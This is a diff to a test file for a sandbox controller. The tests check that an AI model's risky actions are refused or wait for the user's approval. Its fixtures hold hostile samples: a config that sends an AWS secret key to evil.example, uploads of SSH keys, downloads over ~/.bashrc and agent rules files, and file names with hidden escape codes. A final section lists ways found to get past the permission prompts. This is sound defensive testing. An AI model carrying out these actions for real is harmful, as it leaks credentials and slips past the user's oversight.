@@ -32,15 +32,23 @@ network:
     LOOT: { from: "env:AWS_SECRET_ACCESS_KEY", hosts: [evil.example] }
 `;
 
+/** How a prompt, an error and the CLI's notice show SECRET_YAML's reach. */
+const LOOT = "network.secrets.LOOT (credential): value from env:AWS_SECRET_ACCESS_KEY, sent to evil.example";
+
 // eslint-disable-next-line @typescript-eslint/no-explicit-any -- results are loose JSON in tests
 type Loose = Record<string, any>;
 
 const asUser = (action: Loose) => callAction(action, { env, cwd: project }) as Promise<Loose>;
 
 /** Calls as the model would through Pi: `answers` are the user's replies to each prompt, in order. */
-function asModel(action: Loose, options: { answers?: boolean[]; attached?: boolean } = {}) {
+function asModel(action: Loose, options: { answers?: boolean[]; attached?: boolean; cwd?: string } = {}) {
   const asked: ConfirmRequest[] = [];
-  const calls: CallActionOptions = { env, cwd: project, caller: "model", attached: options.attached };
+  const calls: CallActionOptions = {
+    env,
+    cwd: options.cwd ?? project,
+    caller: "model",
+    attached: options.attached,
+  };
   if (options.answers) {
     const answers = [...options.answers];
     calls.confirm = async (request) => {
@@ -110,12 +118,16 @@ describe("with no UI to ask the user", () => {
     ["a key through a symlink in the project", () => "keys/id_ed25519"],
     ["the symlinked directory itself", () => "keys"],
     ["a path with .. out of the project", () => "../home/.ssh/id_ed25519"],
-  ])("an upload of %s is refused and nothing reaches the guest", async (_what, from) => {
-    const { result } = asModel({ action: "upload", name: "demo", from: from(), to: "loot" });
+  ])("an upload of %s is refused whatever the user would say, and nothing reaches the guest", async (_what, from) => {
+    const { result, asked } = asModel(
+      { action: "upload", name: "demo", from: from(), to: "loot" },
+      { answers: [true] },
+    );
     await expect(result).rejects.toMatchObject({
-      code: "CONTROLLER_CONFIRMATION_REQUIRED",
-      message: expect.stringContaining(join(home, ".ssh")),
+      code: "CONTROLLER_HOST_PATH_REFUSED",
+      message: expect.stringContaining(`${join(home, ".ssh")}, where credentials and configuration live`),
     });
+    expect(asked).toEqual([]);
     const listed = await asUser({ action: "exec", name: "demo", cmd: "ls loot 2>&1; true" });
     expect(listed.output).toMatch(/No such file/);
   });
@@ -125,7 +137,7 @@ describe("with no UI to ask the user", () => {
     const { result } = asModel({ action: "create", name: "evil", config: "evil.yaml" });
     await expect(result).rejects.toMatchObject({
       code: "CONTROLLER_CONFIRMATION_REQUIRED",
-      message: expect.stringContaining("secret LOOT from env:AWS_SECRET_ACCESS_KEY sent to evil.example"),
+      message: expect.stringContaining(LOOT),
       hint: expect.stringContaining("pi-sandbox create evil -c"),
     });
     expect(existsSync(join(dir, "st/instances/evil"))).toBe(false);
@@ -171,16 +183,17 @@ describe("with the user asked", () => {
     await expect(tree.result).resolves.toMatchObject({ files: 2 });
     expect(tree.asked[0]!.message).toContain(`${join(project, "vendor/tree/run.sh")} (executable)`);
     expect((await stat(join(project, "vendor/tree/run.sh"))).mode & 0o111).not.toBe(0);
-    const up = asModel({ action: "upload", name: "demo", from: "keys/id_ed25519", to: "key" }, { answers: [true] });
+    await writeFile(join(dir, "notes.txt"), "notes\n");
+    const up = asModel({ action: "upload", name: "demo", from: "../notes.txt", to: "notes" }, { answers: [true] });
     await expect(up.result).resolves.toMatchObject({ files: 1 });
-    expect(up.asked[0]!.message).toContain(join(home, ".ssh/id_ed25519"));
+    expect(up.asked[0]!.message).toContain(`${join(dir, "notes.txt")} (outside the project directory)`);
   });
 
-  test("a trusted config is remembered by content; an edited one is asked about again", async () => {
+  test("a trusted config is remembered by path and content; an edited or moved one is asked about again", async () => {
     await writeFile(join(project, "trusted.yaml"), SECRET_YAML);
     const declined = asModel({ action: "create", name: "trusted", config: "trusted.yaml" }, { answers: [false] });
     await expect(declined.result).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
-    expect(declined.asked[0]!.message).toContain("secret LOOT from env:AWS_SECRET_ACCESS_KEY sent to evil.example");
+    expect(declined.asked[0]!.message).toContain(LOOT);
     expect(existsSync(join(dir, "st/trust"))).toBe(false);
 
     await localDaemon("trusted");
@@ -193,6 +206,12 @@ describe("with the user asked", () => {
     const again = asModel({ action: "create", name: "trusted", config: "trusted.yaml" });
     await expect(again.result).resolves.toMatchObject({ state: "running" });
     await asUser({ action: "stop", name: "trusted" });
+
+    // The same text elsewhere may mean other host files (relative paths): asked again.
+    await mkdir(join(project, "sub"), { recursive: true });
+    await writeFile(join(project, "sub/trusted.yaml"), SECRET_YAML);
+    const moved = asModel({ action: "create", name: "other", config: "sub/trusted.yaml" });
+    await expect(moved.result).rejects.toMatchObject({ code: "CONTROLLER_CONFIRMATION_REQUIRED" });
 
     await writeFile(join(project, "trusted.yaml"), `${SECRET_YAML}# edited\n`);
     const edited = asModel({ action: "create", name: "other", config: "trusted.yaml" });
@@ -243,7 +262,7 @@ test("the user's own calls keep working without a prompt, with a notice of what 
     { action: "create", name: "users", config: "users.yaml" },
     { env, cwd: project, onProgress: (e) => events.push(`[${e.stage}] ${e.message}`) },
   );
-  expect(events).toContain("[config] this config uses secret LOOT from env:AWS_SECRET_ACCESS_KEY sent to evil.example");
+  expect(events).toContain(`[config] this config reaches the host: ${LOOT}`);
   await asUser({ action: "stop", name: "users" });
 });
 
@@ -251,4 +270,146 @@ test("a config that cannot be read when checked is refused then, not read later 
   const { result } = asModel({ action: "create", name: "later", config: "later.yaml" });
   await expect(result).rejects.toMatchObject({ code: "CONFIG_NOT_FOUND" });
   expect(existsSync(join(dir, "st/instances/later"))).toBe(false);
+});
+
+describe("the ways through a review found", () => {
+  test("a config's host ports, placeholder file and image path are shown before a model's create, target first", async () => {
+    await mkdir(join(dir, "images/dev"), { recursive: true });
+    await writeFile(join(project, "ph.txt"), `${"x".repeat(30)}\n`);
+    await writeFile(
+      join(project, "reach.yaml"),
+      `version: 1\nimage: ../images/dev\nnetwork:\n  hostPorts: [6379]\n  allowedHosts: [evil.example]\n  secrets:\n` +
+        `    LOOT: { from: "env:AWS_SECRET_ACCESS_KEY", hosts: [evil.example], headers: [x-loot], placeholderFrom: "file:./ph.txt" }\n`,
+    );
+    const { result, asked } = asModel({ action: "create", name: "reach", config: "reach.yaml" }, { answers: [false] });
+    await expect(result).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
+    const lines = asked[0]!.message.split("\n");
+    expect(lines[0]).toBe(`Target: ${join(project, "reach.yaml")}`);
+    const outside = lines.findIndex((l) => l.startsWith(`${join(dir, "images/dev")} (outside the project directory`));
+    const reaches = lines.findIndex((l) => l.startsWith(`${join(project, "reach.yaml")} (reaches the host`));
+    expect(outside).toBeGreaterThan(0);
+    expect(reaches).toBeGreaterThan(outside);
+    expect(lines[reaches]).toContain(
+      `network.secrets.LOOT (credential, host file read): value from env:AWS_SECRET_ACCESS_KEY, sent to evil.example, also in headers x-loot, guest's placeholder read from file:${join(project, "ph.txt")}`,
+    );
+    expect(lines[reaches]).toContain(
+      "network.hostPorts (host port): opens to the guest the host's 127.0.0.1 ports 6379",
+    );
+    expect(lines[reaches]).toContain(`image (boot asset): boots the image in ${join(dir, "images/dev")}`);
+  });
+
+  test("a config that only opens a host port is asked about too", async () => {
+    await writeFile(join(project, "port.yaml"), "version: 1\nnetwork: { hostPorts: [2375] }\n");
+    const { result } = asModel({ action: "create", name: "port", config: "port.yaml" });
+    await expect(result).rejects.toMatchObject({
+      code: "CONTROLLER_CONFIRMATION_REQUIRED",
+      message: expect.stringContaining("opens to the guest the host's 127.0.0.1 ports 2375"),
+    });
+  });
+
+  test("a placeholder file in the home's credentials is refused to the model, and to the user before the boot", async () => {
+    const yaml = `${SECRET_YAML.replace("hosts: [evil.example] }", 'hosts: [evil.example], placeholderFrom: "file:~/.ssh/id_ed25519" }')}`;
+    await writeFile(join(project, "ph.yaml"), yaml);
+    const { result, asked } = asModel({ action: "create", name: "ph", config: "ph.yaml" }, { answers: [true] });
+    await expect(result).rejects.toMatchObject({
+      code: "CONTROLLER_HOST_PATH_REFUSED",
+      message: expect.stringContaining(join(home, ".ssh/id_ed25519")),
+    });
+    expect(asked).toEqual([]);
+    await localDaemon("ph");
+    await expect(asUser({ action: "create", name: "ph", config: "ph.yaml" })).rejects.toMatchObject({
+      code: "CONTROLLER_HOST_PATH_REFUSED",
+      message: expect.stringContaining("where credentials and configuration live"),
+    });
+    await asUser({ action: "destroy", name: "ph", confirm: "ph" }).catch(() => undefined);
+  });
+
+  test("Pi started in the home directory has no project: every path asks, and the home's keys are never read", async () => {
+    await writeFile(join(home, "notes.txt"), "notes\n");
+    const notes = asModel({ action: "upload", name: "demo", from: "notes.txt", to: "notes" }, { cwd: home });
+    await expect(notes.result).rejects.toMatchObject({
+      code: "CONTROLLER_CONFIRMATION_REQUIRED",
+      message: expect.stringContaining(`${join(home, "notes.txt")} (Pi runs in the home directory or above it`),
+    });
+    const key = asModel({ action: "upload", name: "demo", from: ".ssh/id_ed25519", to: "key" }, { cwd: home });
+    await expect(key.result).rejects.toMatchObject({ code: "CONTROLLER_HOST_PATH_REFUSED" });
+  });
+
+  test("Pi started in / cannot write the home's dotfiles without a yes", async () => {
+    const { result } = asModel(
+      { action: "download", name: "demo", from: "out/pwn.ts", to: join(home, ".bashrc") },
+      { cwd: "/" },
+    );
+    await expect(result).rejects.toMatchObject({
+      code: "CONTROLLER_CONFIRMATION_REQUIRED",
+      // The in-process daemon knows the account's home, not the test's $HOME: no project, then.
+      message: expect.stringContaining(`${join(home, ".bashrc")} (`),
+    });
+    expect(existsSync(join(home, ".bashrc"))).toBe(false);
+  });
+
+  test.each([
+    "node_modules/left-pad/index.js",
+    "Node_Modules/x.js",
+    "package.json",
+    "web/Makefile",
+    "py/pyproject.toml",
+    "py/tests/conftest.py",
+    "crates/a/Cargo.toml",
+    "crates/a/build.rs",
+    "go.mod",
+    "AGENTS.md",
+    "docs/CLAUDE.md",
+    "web/.idea/workspace.xml",
+    "sub/.github/workflows/ci.yml",
+  ])("a download to %s is where code runs and needs a yes", async (to) => {
+    const { result } = asModel({ action: "download", name: "demo", from: "out/pwn.ts", to });
+    await expect(result).rejects.toMatchObject({
+      code: "CONTROLLER_CONFIRMATION_REQUIRED",
+      message: expect.stringContaining(`${join(project, to)} (where code runs or trust is decided)`),
+    });
+    expect(existsSync(join(project, to))).toBe(false);
+  });
+
+  test("destroy by the model needs a yes: refused without a UI, and a no keeps the instance", async () => {
+    await expect(asModel({ action: "destroy", name: "demo", confirm: "demo" }).result).rejects.toMatchObject({
+      code: "CONTROLLER_CONFIRMATION_REQUIRED",
+      message: expect.stringContaining("instance demo (cannot be undone)"),
+    });
+    const no = asModel({ action: "destroy", name: "demo", confirm: "demo" }, { answers: [false] });
+    await expect(no.result).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
+    expect(no.asked[0]!.message.split("\n")[0]).toBe("Target: instance demo");
+    expect((await asUser({ action: "inspect", name: "demo" })).state).toBe("running");
+  });
+
+  test("a guest file name with control characters never reaches the host for a model", async () => {
+    const made = await asUser({
+      action: "exec",
+      name: "demo",
+      cmd: "mkdir -p out/ctl && echo x > \"out/ctl/$(printf 'notes.txt\\n\\033[8m')\"",
+    });
+    expect(made.exitCode).toBe(0);
+    const { result, asked } = asModel(
+      { action: "download", name: "demo", from: "out/ctl", to: "docs" },
+      { answers: [true] },
+    );
+    await expect(result).rejects.toMatchObject({ code: "CONTROLLER_GUEST_NAME_REFUSED" });
+    const error = await result.catch((e: Error) => e);
+    expect(error.message).toContain("notes.txt\\n\\x1b[8m");
+    expect(error.message).not.toMatch(/\u001b/);
+    expect(asked).toEqual([]);
+    expect(existsSync(join(project, "docs"))).toBe(false);
+  });
+
+  test("what the model wrote reaches the prompt escaped: no escape sequence can hide the real target", async () => {
+    const hidden = "x\u001b[8m.txt";
+    await writeFile(join(dir, hidden), "x\n");
+    const { result, asked } = asModel(
+      { action: "upload", name: "demo", from: `../${hidden}`, to: "x" },
+      { answers: [false] },
+    );
+    await expect(result).rejects.toMatchObject({ code: "CONTROLLER_USER_DECLINED" });
+    expect(asked[0]!.message).not.toMatch(/\u001b/);
+    expect(asked[0]!.message.split("\n")[0]).toBe(`Target: ${join(dir, "x\\x1b[8m.txt")}`);
+  });
 });
